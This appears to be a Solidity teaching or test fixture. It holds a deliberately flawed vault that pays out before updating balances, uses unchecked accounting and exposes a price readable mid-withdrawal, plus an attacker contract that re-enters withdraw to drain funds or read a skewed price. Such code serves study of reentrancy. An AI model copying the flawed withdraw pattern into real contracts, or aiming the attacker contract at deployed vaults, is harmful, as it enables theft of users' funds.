// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

/// A vault of native coin that pays out before it books: the door that a thief comes back through.
contract LateVault {
    mapping(address => uint256) public balanceOf;
    uint256 public total;

    function deposit() external payable {
        balanceOf[msg.sender] += msg.value;
        total += msg.value;
    }

    function withdraw() external {
        uint256 amount = balanceOf[msg.sender];
        (bool ok, ) = msg.sender.call{value: amount}("");
        require(ok, "unpaid");
        unchecked {
            total -= amount;
        }
        balanceOf[msg.sender] = 0;
    }

    function pricePerShare() external view returns (uint256) {
        return total == 0 ? 1e18 : (address(this).balance * 1e18) / total;
    }

    function lend(address receiver, uint256 amount) external {
        uint256 before = address(this).balance;
        IBorrower(receiver).onLoan{value: amount}();
        require(address(this).balance >= before, "not repaid");
    }
}

interface IBorrower {
    function onLoan() external payable;
}

/// A market that believes the vault's price.
contract PriceTaker {
    LateVault public immutable vault;
    uint256 public lastPrice;

    constructor(LateVault vault_) {
        vault = vault_;
    }

    function borrow() external {
        lastPrice = vault.pricePerShare();
    }
}

/// Takes more than its own by coming back in; or does nothing of the kind.
contract Visitor {
    LateVault public immutable vault;
    PriceTaker public immutable market;
    uint256 public left;
    uint8 public mode;

    constructor(LateVault vault_, PriceTaker market_) payable {
        vault = vault_;
        market = market_;
    }

    function enter() external payable {
        vault.deposit{value: msg.value}();
    }

    /// mode 0: just leave. 1: come back in `times` times. 2: borrow at the price of the moment. 3: put some back in.
    function leave(uint8 mode_, uint256 times) external {
        mode = mode_;
        left = times;
        vault.withdraw();
    }

    receive() external payable {
        if (mode == 1 && left > 0) {
            left -= 1;
            vault.withdraw();
        } else if (mode == 2) {
            market.borrow();
        } else if (mode == 3 && left > 0) {
            left = 0;
            vault.deposit{value: msg.value}();
        }
    }
}
